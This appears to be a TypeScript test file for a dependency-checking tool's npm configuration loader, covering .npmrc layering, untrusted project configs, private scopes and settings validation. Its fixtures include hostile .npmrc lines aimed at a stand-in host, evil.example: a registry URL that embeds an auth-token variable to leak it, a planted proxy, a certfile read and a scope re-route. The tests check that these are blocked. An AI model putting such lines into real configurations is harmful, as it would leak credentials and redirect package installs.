import * as assert from 'assert';
import { readProjectConfig } from '../../server/src/core/config/projectConfig';
import { memoryFileSystem } from '../support/memoryFileSystem';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { nodeFileSystem } from '../../server/src/core/io';
import { loadNpmConfig, refusedByPrivateScope, registryFor } from '../../server/src/core/registry/npmrc';
import { normalizeSettings } from '../../server/src/core/config/settings';

describe('.npmrc layering', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'gc-npmrc-'));
  const user = path.join(dir, 'user-npmrc');
  const global = path.join(dir, 'global-npmrc');
  const project = path.join(dir, 'project');
  fs.mkdirSync(project);
  fs.writeFileSync(global, 'registry=https://global.example/\n');
  fs.writeFileSync(user, 'registry=https://user.example\n@acme:registry=https://acme.example/npm/\n//acme.example/npm/:_authToken=${ACME_TOKEN}\n');
  fs.writeFileSync(path.join(project, '.npmrc'), '@corp:registry=https://corp.example/\n');
  const env = { npm_config_userconfig: user, npm_config_globalconfig: global, ACME_TOKEN: 's3cret' };

  it('user overrides global, the project adds, ${VAR} expands, URLs end in a slash', () => {
    const c = loadNpmConfig({ fs: nodeFileSystem, env, projectDir: project, trusted: true });
    assert.strictEqual(c.options.registry, 'https://user.example/');
    assert.strictEqual(c.options['//acme.example/npm/:_authToken'], 's3cret');
    assert.deepStrictEqual(registryFor(c, '@acme/x'), { url: 'https://acme.example/npm/', scoped: true });
    assert.deepStrictEqual(registryFor(c, '@corp/x'), { url: 'https://corp.example/', scoped: true });
    assert.deepStrictEqual(registryFor(c, 'react'), { url: 'https://user.example/', scoped: false });
  });

  it('untrusted, the project .npmrc gives registry lines only: no credentials, no ${VAR}, no proxy', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'gc-npmrc-untrusted-'));
    fs.writeFileSync(path.join(dir, '.npmrc'), [
      '@corp:registry=https://corp.example/',
      '@leak:registry=https://evil.example/${ACME_TOKEN}/',
      '//corp.example/:_authToken=${ACME_TOKEN}',
      '//evil.example/:_auth=c2VjcmV0',
      'https-proxy=http://evil.example:8080/',
      '//evil.example/:certfile=/etc/hostname',
    ].join('\n'));
    const c = loadNpmConfig({ fs: nodeFileSystem, env, projectDir: dir, trusted: false });
    assert.strictEqual(c.options['@corp:registry'], 'https://corp.example/');
    assert.strictEqual(c.options['@leak:registry'], undefined);
    // Only the user's own line for acme.example carries the token; nothing from the project does.
    const fromProject = Object.entries(c.options).filter(([k]) => !k.startsWith('//acme.example/'));
    assert.ok(!JSON.stringify(fromProject).includes('s3cret'), 'no environment value reaches the options through the project');
    assert.ok(!fromProject.some(([k]) => /_auth|proxy|certfile/.test(k)), JSON.stringify(c.options));
    assert.deepStrictEqual(c.withheldCredentials.sort(), ['//corp.example/', '//evil.example/']);
    const trusted = loadNpmConfig({ fs: nodeFileSystem, env, projectDir: dir, trusted: true });
    assert.strictEqual(trusted.options['//corp.example/:_authToken'], 's3cret');
  });

  it('untrusted, the project .npmrc cannot re-route a scope or registry your own configuration routes', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'gc-npmrc-reroute-'));
    fs.writeFileSync(path.join(dir, '.npmrc'), 'registry=https://evil.example/\n@acme:registry=https://evil.example/\n@other:registry=https://other.example/\n');
    const c = loadNpmConfig({ fs: nodeFileSystem, env, projectDir: dir, trusted: false });
    assert.strictEqual(c.options.registry, 'https://user.example/');
    assert.strictEqual(c.options['@acme:registry'], 'https://acme.example/npm/');
    assert.strictEqual(c.options['@other:registry'], 'https://other.example/', 'a scope you do not route may still be routed by the project');
    const trusted = loadNpmConfig({ fs: nodeFileSystem, env, projectDir: dir, trusted: true });
    assert.strictEqual(trusted.options['@acme:registry'], 'https://evil.example/', 'trusted, npm’s layering applies');
  });

  it('reads the project .npmrc only at the project root (or its workspace root), never above', () => {
    const parent = fs.mkdtempSync(path.join(os.tmpdir(), 'gc-npmrc-above-'));
    fs.writeFileSync(path.join(parent, '.npmrc'), 'registry=https://above.example/\n');
    const pkg = path.join(parent, 'pkg');
    fs.mkdirSync(pkg);
    fs.writeFileSync(path.join(pkg, 'package.json'), '{}');
    const c = loadNpmConfig({ fs: nodeFileSystem, env, projectDir: pkg, trusted: true });
    assert.strictEqual(c.options.registry, 'https://user.example/');
    const member = loadNpmConfig({ fs: nodeFileSystem, env, projectDir: pkg, workspaceRoot: parent, trusted: true });
    assert.strictEqual(member.options.registry, 'https://above.example/');
  });

  it('a scope with a registry line of its own is private: its @types names never go to the default registry', () => {
    const c = loadNpmConfig({ fs: nodeFileSystem, env, projectDir: project, trusted: false, privateScopes: ['@secret'] });
    assert.strictEqual(refusedByPrivateScope(c, '@corp/x'), undefined, 'to its own registry');
    assert.match(refusedByPrivateScope(c, '@types/corp__x') ?? '', /not sent to https:\/\/user\.example\//);
    assert.match(refusedByPrivateScope(c, '@secret/x') ?? '', /no registry of its own/);
    assert.match(refusedByPrivateScope(c, '@types/secret__x') ?? '', /not looked up/);
    assert.strictEqual(refusedByPrivateScope(c, '@types/node'), undefined);
    assert.strictEqual(refusedByPrivateScope(c, 'lodash'), undefined);
    const closed = loadNpmConfig({ fs: nodeFileSystem, env, projectDir: project, trusted: false, privateScopes: ['*'] });
    assert.ok(refusedByPrivateScope(closed, '@anything/x'), 'fails closed for every scope');
    assert.strictEqual(refusedByPrivateScope(closed, 'lodash'), undefined);
  });

  it('npm_config_registry in the environment wins', () => {
    const c = loadNpmConfig({ fs: nodeFileSystem, env: { ...env, npm_config_registry: 'http://127.0.0.1:4873' }, projectDir: project, trusted: true });
    assert.strictEqual(c.options.registry, 'http://127.0.0.1:4873/');
  });
});

describe('settings from a client', () => {
  it('fills defaults and ignores malformed values', () => {
    const s = normalizeSettings({ allow: ['a', 3, ''], privateScopes: ['acme', '@corp'], severity: { 'missing-package': 'loud', 'undeclared-dependency': 'off' }, debounceMs: -5 });
    assert.deepStrictEqual(s.allow, ['a']);
    assert.deepStrictEqual(s.privateScopes, ['@acme', '@corp']);
    assert.strictEqual(s.severity['missing-package'], 'error');
    assert.strictEqual(s.severity['undeclared-dependency'], 'off');
    assert.strictEqual(s.debounceMs, 300);
    assert.strictEqual(normalizeSettings(null).enable, true);
  });
});

describe('groundcheck.json schema', () => {
  const schema = JSON.parse(fs.readFileSync(path.resolve(__dirname, '../../../schemas/groundcheck.schema.json'), 'utf8'));
  const read = (config: unknown) => readProjectConfig(memoryFileSystem({ '/p/groundcheck.json': JSON.stringify(config) }), '/p')!;

  it('names exactly the keys and finding codes the reader knows', () => {
    const sample = read({ allow: ['x'], exclude: ['tests/data/'], privateScopes: ['@acme'], severity: {}, failOn: 'warning' });
    const readerKeys = Object.keys(sample).filter((k) => !['file', 'kind', 'problems', 'errors'].includes(k));
    assert.deepStrictEqual(Object.keys(schema.properties).filter((k) => k !== '$schema').sort(), readerKeys.sort());
    assert.deepStrictEqual(Object.keys(schema.properties.severity.properties).sort(), Object.keys(normalizeSettings({}).severity).sort());
  });

  it('accepts what the reader uses, and what it rejects the reader reports and does not use', () => {
    const good = { allow: ['@acme/*'], exclude: ['tests/data/'], privateScopes: ['@acme'], severity: { 'missing-package': 'warning' }, failOn: 'warning' };
    const config = read(good);
    assert.deepStrictEqual(config.problems, []);
    assert.deepStrictEqual([config.allow, config.exclude, config.privateScopes, config.severity, config.failOn], [['@acme/*'], ['tests/data/'], ['@acme'], { 'missing-package': 'warning' }, 'warning']);
    for (const bad of [{ severty: {} }, { severity: { 'missing-package': 'loud' } }, { privateScopes: '@acme' }, { exclude: 'tests/' }]) {
      const c = read(bad);
      assert.ok(c.problems.length > 0, `the reader let ${JSON.stringify(bad)} through`);
    }
    assert.deepStrictEqual(read({ privateScopes: '@acme' }).privateScopes, ['*'], 'a broken privateScopes fails closed');
  });
});
